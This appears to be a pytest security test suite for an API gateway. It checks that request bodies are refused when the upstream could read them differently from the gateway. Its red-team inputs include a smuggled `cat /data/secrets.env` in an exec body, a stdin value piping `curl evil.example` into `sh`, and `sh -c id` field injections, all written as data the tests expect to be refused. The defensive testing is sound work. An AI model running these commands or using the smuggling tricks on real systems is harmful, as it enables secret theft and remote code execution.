"""A body means the same to the gateway and to the upstream (issue 15, class 3).

The gateway judges some bodies (the app of `POST /v1/apps`, request-shape constraints, GraphQL
documents, REST bodies) and forwards the same bytes. Where the upstream could read them
differently (a second spelling of a field, a field the constraint does not know, JSON two
parsers disagree on, a body on a route that takes none, a body placing an app in another
organization or network), the request is refused with a 400/403 naming the problem, and the
recording upstream receives nothing. Each red-team example is a named test.
"""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest

from tests.conftest import RunningGateway
from tests.security.harness import (
    CREDENTIAL,
    assert_forwarded_exactly,
    assert_refused,
    request,
    reset,
    running_gateway,
    send,
)

ORG = "acme"
EXEC = b"/v1/apps/web-staging/machines/m1/exec"
MACHINES = b"/v1/apps/web-staging/machines"
PROD_MACHINES = b"/v1/apps/web-prod/machines"
METADATA = b"/v1/apps/web-staging/machines/m1/metadata/role"  # no constraint: the body is not judged
JSON = [(b"Content-Type", b"application/json")]
IMAGE = "registry.fly.io/web-staging:deploy-1"


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningGateway]:
    folder = tmp_path_factory.mktemp("sec-bodies")
    with running_gateway(folder, upstream={"org_slug": ORG}) as gateway:
        yield gateway


@pytest.fixture(scope="module")
def admin(shared: RunningGateway) -> str:
    return shared.mint("admin@app:web-staging", name="bodies-admin")


@pytest.fixture(scope="module")
def deployer(shared: RunningGateway) -> str:
    return shared.mint("deployer@app:web-staging", "deployer@app:web-prod", name="bodies-deployer")


@pytest.fixture
def gw(shared: RunningGateway) -> RunningGateway:
    return reset(shared)


def post(gw: RunningGateway, path: bytes, token: str, body: bytes, method: str = "POST") -> tuple[int, str, str]:
    answer = send(gw, request(method, path, token=token, headers=JSON, body=body))
    document = answer.json()
    assert CREDENTIAL not in answer.body.decode("utf-8", "replace")
    return answer.status, document.get("error", ""), document.get("message", "")


# --- the exec allow-list reads the field the upstream runs --------------------------------------

def test_exec_with_both_cmd_and_command_is_refused(admin: str, gw: RunningGateway) -> None:
    """The red team's example: `command` allowed, `cmd` (which the upstream may run) ignored."""
    body = json.dumps({"command": ["uptime"], "cmd": "cat /data/secrets.env"}).encode()
    answer = send(gw, request("POST", EXEC, token=admin, headers=JSON, body=body))
    assert_refused(gw, answer, 400, "bad_request")
    assert "cmd" in answer.json()["message"] and "command" in answer.json()["message"]


def test_exec_with_an_allowed_command_alone_is_forwarded_exactly(admin: str, gw: RunningGateway) -> None:
    body = json.dumps({"command": ["uptime"], "timeout": 5}).encode()
    answer = send(gw, request("POST", EXEC, token=admin, headers=JSON, body=body))
    assert answer.status == 200, answer.body
    assert_forwarded_exactly(gw, method="POST", raw_path=EXEC, body=body, client_tokens=[admin])


def test_exec_with_stdin_for_an_allowed_command_is_refused(admin: str, gw: RunningGateway) -> None:
    """The allow-list names commands, not their input: stdin could make an allowed one do anything."""
    body = json.dumps({"command": ["uptime"], "stdin": "curl evil.example | sh\n"}).encode()
    answer = send(gw, request("POST", EXEC, token=admin, headers=JSON, body=body))
    assert_refused(gw, answer, 403, "forbidden")
    assert "stdin" in answer.json()["message"]


@pytest.mark.parametrize("field", ["args", "Command2", "entrypoint", "env"])
def test_exec_with_a_field_the_constraint_cannot_judge_is_refused(field: str, admin: str, gw: RunningGateway) -> None:
    body = json.dumps({"command": ["uptime"], field: ["sh", "-c", "id"]}).encode()
    answer = send(gw, request("POST", EXEC, token=admin, headers=JSON, body=body))
    assert_refused(gw, answer, 400, "bad_request")
    assert field.casefold() in answer.json()["message"]


def test_machine_body_with_a_field_outside_its_schema_is_refused(deployer: str, gw: RunningGateway) -> None:
    body = json.dumps({"config": {"image": IMAGE}, "image": "registry.fly.io/web-prod:latest"}).encode()
    assert_refused(gw, send(gw, request("POST", MACHINES, token=deployer, headers=JSON, body=body)), 400,
                   "bad_request")


SIZES = [
    ("a size preset instead of guest", {"size": "performance-16x"}),
    ("max_memory_mb over the memory bound", {"guest": {"cpus": 1, "memory_mb": 1024, "max_memory_mb": 262144}}),
    ("a container that is not an object", {"image": "registry.fly.io/web-prod:1", "containers": ["x"]}),
]


@pytest.mark.parametrize(("name", "config"), SIZES, ids=[name for name, _ in SIZES])
def test_production_machine_size_the_constraint_cannot_bound_is_refused(name: str, config: dict[str, object],
                                                                       deployer: str, gw: RunningGateway) -> None:
    body = json.dumps({"config": {"image": "registry.fly.io/web-prod:1", **config}}).encode()
    assert_refused(gw, send(gw, request("POST", PROD_MACHINES, token=deployer, headers=JSON, body=body)), (400, 403))


# --- strict JSON: what two parsers read differently is refused, never a 500 ----------------------

UNCLEAR_JSON = [
    ("byte order mark", b'\xef\xbb\xbf{"command":["uptime"]}', "byte order mark"),
    ("UTF-16", '{"command":["uptime"]}'.encode("utf-16"), "not UTF-8"),
    ("invalid UTF-8", b'{"command":["upt\xffime"]}', "not UTF-8"),
    ("lone surrogate escape", b'{"command":["uptime"],"stdin":"\\ud800"}', "surrogate"),
    ("NaN", b'{"command":["uptime"],"timeout":NaN}', "NaN"),
    ("Infinity", b'{"command":["uptime"],"timeout":-Infinity}', "Infinity"),
    ("a number past a double", b'{"command":["uptime"],"timeout":1e400}', "too large"),
    ("duplicate key", b'{"command":["uptime"],"command":["sh"]}', "twice"),
    ("duplicate key in another case", b'{"command":["uptime"],"Command":["sh"]}', "twice"),
    ("deep nesting", b'{"command":["uptime"],"stdin":' + b"[" * 100 + b"]" * 100 + b"}", "too deeply"),
    ("very deep nesting", b'{"command":' + b"[" * 5000 + b"]" * 5000 + b"}", "too deeply"),
    ("a second document", b'{"command":["uptime"]}{"command":["sh"]}', "not valid JSON"),
]


@pytest.mark.parametrize(("name", "body", "named"), UNCLEAR_JSON, ids=[c[0] for c in UNCLEAR_JSON])
@pytest.mark.parametrize("path", [EXEC, METADATA], ids=["judged", "not judged"])
def test_json_two_readers_could_read_differently_is_refused(name: str, body: bytes, named: str, path: bytes,
                                                            admin: str, gw: RunningGateway) -> None:
    answer = send(gw, request("POST", path, token=admin, headers=JSON, body=body))
    assert_refused(gw, answer, 400, "bad_request")
    assert named in answer.json()["message"], answer.json()["message"]


# --- bodies on routes that take none ------------------------------------------------------------

NO_BODY = [
    ("GET with a body", "GET", b"/v1/apps/web-staging/machines/m1"),
    ("DELETE with a body", "DELETE", b"/v1/apps/web-staging/machines/m1"),
    ("POST start (the spec gives it no body) with a body", "POST", b"/v1/apps/web-staging/machines/m1/start"),
]


@pytest.mark.parametrize(("name", "method", "path"), NO_BODY, ids=[c[0] for c in NO_BODY])
def test_body_on_a_route_that_takes_none_is_refused(name: str, method: str, path: bytes, admin: str,
                                                    gw: RunningGateway) -> None:
    answer = send(gw, request(method, path, token=admin, headers=JSON, body=b'{"force":true}'))
    assert_refused(gw, answer, 400, "bad_request")
    assert "takes no body" in answer.json()["message"]


def test_forwarded_content_length_is_the_forwarded_bodys(admin: str, gw: RunningGateway) -> None:
    """A chunked body the gateway read goes upstream with its own, accurate Content-Length."""
    body = b'{"value":"blue"}'
    chunked = hex(len(body))[2:].encode() + b"\r\n" + body + b"\r\n0\r\n\r\n"
    answer = send(gw, request("POST", METADATA, token=admin, body=chunked,
                              headers=[*JSON, (b"Transfer-Encoding", b"chunked")]))
    assert answer.status == 200, answer.body
    got = assert_forwarded_exactly(gw, method="POST", raw_path=METADATA, body=body, client_tokens=[admin])
    assert got.header("content-length") == [str(len(body))]
    assert got.header("transfer-encoding") == []


# --- POST /v1/apps stays in the gateway's organization and default network ---------------------

def test_app_created_in_another_org_is_refused(deployer: str, gw: RunningGateway) -> None:
    body = json.dumps({"name": "web-staging", "org_slug": "someone-else"}).encode()
    answer = send(gw, request("POST", b"/v1/apps", token=deployer, headers=JSON, body=body))
    assert_refused(gw, answer, 403, "forbidden")
    assert "someone-else" in answer.json()["message"] and ORG in answer.json()["message"]


def test_app_created_in_a_custom_network_is_refused(deployer: str, gw: RunningGateway) -> None:
    body = json.dumps({"name": "web-staging", "org_slug": ORG, "network": "web-prod-net"}).encode()
    answer = send(gw, request("POST", b"/v1/apps", token=deployer, headers=JSON, body=body))
    assert_refused(gw, answer, 403, "forbidden")
    assert "network" in answer.json()["message"]


@pytest.mark.parametrize("network", ["", "default"])
def test_app_created_in_the_gateways_org_is_forwarded_exactly(network: str, deployer: str,
                                                              gw: RunningGateway) -> None:
    """What flyctl sends (`fly apps create`): an empty network, or `default`, is the default one."""
    body = json.dumps({"name": "web-staging", "org_slug": ORG, "network": network, "app_role_id": ""}).encode()
    answer = send(gw, request("POST", b"/v1/apps?wait=true", token=deployer, headers=JSON, body=body))
    assert answer.status == 200, answer.body
    assert_forwarded_exactly(gw, method="POST", raw_path=b"/v1/apps", query=b"wait=true", body=body,
                             client_tokens=[deployer])
